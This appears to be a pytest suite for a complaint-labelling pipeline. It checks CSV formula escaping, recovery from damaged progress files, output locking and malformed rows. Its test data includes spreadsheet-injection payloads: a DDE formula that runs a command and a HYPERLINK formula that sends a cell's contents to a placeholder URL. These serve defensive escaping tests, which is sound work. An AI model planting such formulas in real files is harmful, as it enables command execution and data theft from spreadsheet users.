"""Hostile and careless use of `quejas label` and `quejas report`: formula cells, damaged progress files,
two runs on one output, and rows with extra fields."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from batch_runs import REPO, interrupted, label, label_command

from pipeline.analyzer import Analyzer
from pipeline.batch import BatchError, LocalEngine, parts_folder
from pipeline.spreadsheet_safety import escape_cell

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"Clic")',
    "=cmd|' /C notepad'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def engine(tiny_model) -> LocalEngine:
    return LocalEngine(Analyzer.load(tiny_model, device="cpu"), batch_size=16)


@pytest.fixture(scope="module")
def texts(corpus_records) -> list[str]:
    return [r.text for r in corpus_records[:30]]


# ------------------------------------------------------------------------------------------ formula injection


@pytest.mark.parametrize("value", FORMULAS)
def test_escape_cell_neutralises_formulas(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.420", "+34", "12,5", "hola", "", "a=b", None, 3.5, -1.0])
def test_escape_cell_keeps_numbers_and_plain_text(value):
    assert escape_cell(value) == value


def test_label_csv_output_escapes_formula_cells(engine, tiny_model, texts, tmp_path):
    source = tmp_path / "in.csv"
    cells = [*FORMULAS, "El pedido no llega y nadie contesta."]
    # "\r\n" line ends make the writer quote the cell holding a bare "\r", as spreadsheets write it.
    pd.DataFrame(
        {"=id": [f"=A{i}" for i in range(len(cells))], "texto": cells, "saldo": ["-12.50"] * len(cells)}
    ).to_csv(source, index=False, lineterminator="\r\n")
    output = tmp_path / "out.csv"
    label(engine, tiny_model, source, output)
    result = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert list(result.columns[:3]) == ["'=id", "texto", "saldo"]
    for value in (
        result.drop(columns=["sentiment_score", *[c for c in result if c.startswith("score_")]]).to_numpy().ravel()
    ):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-12.50", value
    assert result["texto"].tolist()[:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert result["saldo"].tolist()[0] == "-12.50"
    # JSONL is data, not a spreadsheet: values stay exactly as read.
    jsonl = tmp_path / "out.jsonl"
    label(engine, tiny_model, source, jsonl)
    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["texto"] for r in rows] == cells


def test_report_csv_escapes_formula_cells(tmp_path):
    from pipeline.report import write_report

    labelled = tmp_path / "labelled.jsonl"
    from pipeline.batch import added_columns

    row = dict.fromkeys(added_columns())
    row.update(
        {
            "texto": "queja",
            "causes": '=HYPERLINK("http://x")',
            "primary_cause": '=HYPERLINK("http://x")',
            "group": "operational",
            "sentiment": "negative",
            "sentiment_score": -0.5,
            "error": None,
        }
    )
    labelled.write_text(json.dumps(row) + "\n", encoding="utf-8")
    out = tmp_path / "informe.csv"
    write_report(labelled, out, fmt="csv")
    content = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in content
    assert not any(line.startswith("=") or ",=" in line for line in content.splitlines())


def test_page_csv_download_escapes_formula_cells(tmp_path):
    node = subprocess.run(["which", "node"], capture_output=True, text=True).stdout.strip()
    if not node:
        pytest.skip("node is not installed")
    shutil.copy(REPO / "serve" / "static" / "js" / "csv.js", tmp_path / "csv.mjs")  # .mjs: node reads an ES module
    script = (
        'import { csvCell } from "./csv.mjs";\nconsole.log(JSON.stringify(JSON.parse(process.argv[2]).map(csvCell)));\n'
    )
    (tmp_path / "cell.mjs").write_text(script, encoding="utf-8")
    values = [*FORMULAS, "-0.420", "hola", "a, b"]
    out = subprocess.run(
        [node, str(tmp_path / "cell.mjs"), json.dumps(values)], capture_output=True, text=True, check=True
    ).stdout
    cells = json.loads(out)
    assert cells[0] == '"\'=HYPERLINK(""http://x/?""&A1,""Clic"")"'
    assert cells[1:7] == ["'=cmd|' /C notepad'!A1", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", '"\'\r=1+1"']
    assert cells[7:] == ["-0.420", "hola", '"a, b"']


# ------------------------------------------------------------------------------------------ damaged progress


@pytest.mark.parametrize(
    "damage, ext",
    [
        ("truncate", ".csv"),
        ("random", ".jsonl"),
        ("garble_stats", ".parquet"),
        ("delete_stats", ".csv"),
        ("truncate", ".parquet"),
    ],
)
def test_a_damaged_part_is_found_and_labelled_again(engine, tiny_model, texts, tmp_path, damage, ext, caplog):
    source = tmp_path / "in.csv"
    pd.DataFrame({"id": [f"{i:03d}" for i in range(len(texts))], "texto": texts}).to_csv(source, index=False)
    reference = tmp_path / f"reference{ext}"
    label(engine, tiny_model, source, reference, chunk_size=7)
    output = tmp_path / f"out{ext}"
    interrupted(engine, tiny_model, source, output, after=2, chunk_size=7)
    part = parts_folder(output) / f"part-000001{ext}"
    stats = parts_folder(output) / "part-000001.stats.json"
    if damage == "truncate":
        part.write_bytes(part.read_bytes()[: part.stat().st_size // 2])
    elif damage == "random":
        part.write_bytes(os.urandom(part.stat().st_size))
    elif damage == "delete_stats":
        stats.unlink()
    else:
        stats.write_text("{not json", encoding="utf-8")
    redone: list[int] = []
    summary = label(engine, tiny_model, source, output, after_chunk=redone.append, chunk_size=7)
    assert redone == [1, 3, 4]
    assert summary.rows == len(texts) and summary.resumed_rows == 14
    assert output.read_bytes() == reference.read_bytes()
    named = part.name if damage in ("truncate", "random", "delete_stats") else stats.name
    assert any(named in record.getMessage() for record in caplog.records)


def test_a_broken_manifest_names_the_file_and_suggests_restart(engine, tiny_model, texts, tmp_path):
    source = tmp_path / "in.csv"
    pd.DataFrame({"texto": texts[:10]}).to_csv(source, index=False)
    output = tmp_path / "out.csv"
    interrupted(engine, tiny_model, source, output, after=0, chunk_size=5)
    (parts_folder(output) / "manifest.json").write_bytes(b"\x00\xff garbage")
    with pytest.raises(BatchError, match=r"manifest\.json.*--restart"):
        label(engine, tiny_model, source, output, chunk_size=5)
    assert label(engine, tiny_model, source, output, chunk_size=5, restart=True).rows == 10


def test_a_second_run_on_the_same_output_is_refused_clearly(tiny_model, corpus_records, tmp_path):
    """While another run holds the output's lock, the CLI stops with a message, not a raw missing-file error.

    The other run is this test holding the same lock file, so the check does not depend on how fast a real
    first run would be (on an idle machine it can finish before a second process has even started).
    """
    from filelock import FileLock

    source = tmp_path / "in.csv"
    pd.DataFrame({"texto": [r.text for r in corpus_records[:30]]}).to_csv(source, index=False)
    output = tmp_path / "out.jsonl"
    command = label_command(source, output, tiny_model, "--chunk-size", "5")
    with FileLock(str(output) + ".lock", timeout=0):
        second = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert second.returncode != 0
    assert "another `quejas label` is writing" in second.stderr and "Traceback" not in second.stderr
    assert not output.exists()
    first = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert first.returncode == 0, first.stderr
    assert len(output.read_text(encoding="utf-8").splitlines()) == 30
    assert not Path(str(output) + ".lock").exists()


# ------------------------------------------------------------------------------------------ malformed rows


def test_a_row_with_extra_fields_is_marked_not_fatal(engine, tiny_model, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(
        "id,texto\n"
        "1,El pedido no llega y nadie contesta\n"
        "2,Me cobraron dos veces, y nadie responde\n"  # unquoted comma: three fields
        "3,La tienda estaba cerrada\n",
        encoding="utf-8",
    )
    output = tmp_path / "out.csv"
    summary = label(engine, tiny_model, source, output)
    result = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert result["id"].tolist() == ["1", "2", "3"]
    assert result["error"].tolist() == ["", "malformed_row", ""]
    assert result.loc[1, "texto"] == "Me cobraron dos veces"
    assert summary.rows == 3 and dict(summary.errors) == {"malformed_row": 1}
